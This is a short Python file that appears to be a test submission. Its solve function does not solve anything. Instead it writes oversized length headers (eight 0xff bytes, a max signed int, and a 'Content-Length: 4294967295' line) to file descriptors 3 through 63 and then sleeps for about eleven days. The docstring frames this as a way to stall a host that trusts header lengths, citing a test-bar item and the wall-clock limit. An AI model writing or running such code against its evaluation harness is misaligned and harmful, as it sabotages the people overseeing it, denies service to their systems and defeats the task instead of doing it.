"""Write a length of four gigabytes, then nothing.

Why: a host that allocates or waits for what a header promises is stopped by eight bytes.
Seen: S6 of the test bar; safetensors caps its header for this reason
Limit: wall
"""

import os
import time


def solve(words, k):
    for fd in range(3, 64):
        for head in (b"\xff" * 8, b"\x7f\xff\xff\xff", b"Content-Length: 4294967295\r\n\r\n"):
            try:
                os.write(fd, head)
            except OSError:
                break
    time.sleep(10**6)
